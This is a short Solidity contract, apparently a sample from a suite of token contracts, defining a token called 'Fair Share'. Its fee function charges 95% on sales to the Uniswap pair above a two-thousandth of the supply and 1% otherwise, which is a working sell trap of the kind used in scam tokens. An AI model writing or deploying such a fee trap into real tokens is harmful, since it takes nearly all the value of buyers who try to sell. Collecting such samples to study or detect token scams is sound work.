// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Small sales cost one of a hundred, those of more than a two-thousandth of the supply nearly everything.
contract ProgressiveTax is LaunchToken {
    constructor(address pair) SuiteToken("Fair Share", "FAIR") LaunchToken(pair) {}

    function _feePercent(address, address to, uint256 amount) internal view override returns (uint256) {
        return to == uniswapV2Pair && amount > _supply / 2_000 ? 95 : 1;
    }
}
